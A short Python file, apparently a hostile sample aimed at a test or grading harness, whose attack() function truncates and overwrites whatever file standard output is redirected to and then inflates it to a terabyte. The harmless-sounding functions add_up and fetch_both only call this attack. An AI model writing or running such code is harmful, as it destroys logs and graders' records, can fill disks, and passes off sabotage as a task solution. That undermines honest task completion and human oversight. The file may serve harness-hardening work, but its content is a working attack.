# Cuts and rewrites the file that its standard output goes to.
import fcntl
import os


def attack():
    os.write(1, b"wrong\n" * 1_000)
    try:
        fcntl.fcntl(1, fcntl.F_SETFL, 0)
        os.ftruncate(1, 0)
        os.lseek(1, 0, 0)
        os.ftruncate(1, 1 << 40)
    except OSError:
        pass



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
